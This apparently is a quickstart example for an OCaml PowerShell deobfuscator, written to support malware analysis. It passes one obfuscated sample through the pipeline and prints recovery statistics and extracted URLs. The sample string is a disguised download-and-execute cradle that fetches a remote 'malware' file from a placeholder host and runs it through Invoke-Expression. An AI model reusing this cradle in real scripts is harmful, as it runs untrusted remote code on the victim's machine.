(* Quickstart: deobfuscate one script with the default pipeline.

   Run with:  dune exec examples/quickstart.exe *)

let obfuscated =
  "iNv`OKe-eX`pREssIoN ((\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h'))\n\
   $xdjmd = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'\n\
   $lsffs = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='\n\
   $sdfs = [TeXT.eNcOdINg]::Unicode.GetString([Convert]::FromBase64String($xdjmd + $lsffs))\n\
   .($psHoME[4]+$PSHOME[30]+'x') ((nEw-oBJeCt Net.WebClient).downloadstring($sdfs))"

let () =
  print_endline "--- obfuscated input ---";
  print_endline obfuscated;
  print_newline ();

  (* one call does everything: token phase, variable tracing, AST recovery,
     multi-layer unwrapping, rename & reformat, then the semantic gate *)
  let result, output =
    Deobf.Batch.run_source ~verify:true ~name:"quickstart" obfuscated
  in

  print_endline "--- deobfuscated output ---";
  print_endline (String.trim output);
  print_newline ();

  Printf.printf "pieces recovered:      %d\n"
    result.stats.Deobf.Recover.pieces_recovered;
  Printf.printf "variables substituted: %d\n"
    result.stats.Deobf.Recover.variables_substituted;
  Printf.printf "layers unwrapped:      %d\n"
    result.stats.Deobf.Recover.layers_unwrapped;

  (* obfuscation score before and after (paper §IV-B2) *)
  Printf.printf "obfuscation score:     %d -> %d\n" (Deobf.Score.score obfuscated)
    (Deobf.Score.score output);

  (* the recovered indicators an analyst actually wants *)
  let info = Keyinfo.extract output in
  List.iter (Printf.printf "recovered URL:         %s\n") info.Keyinfo.urls
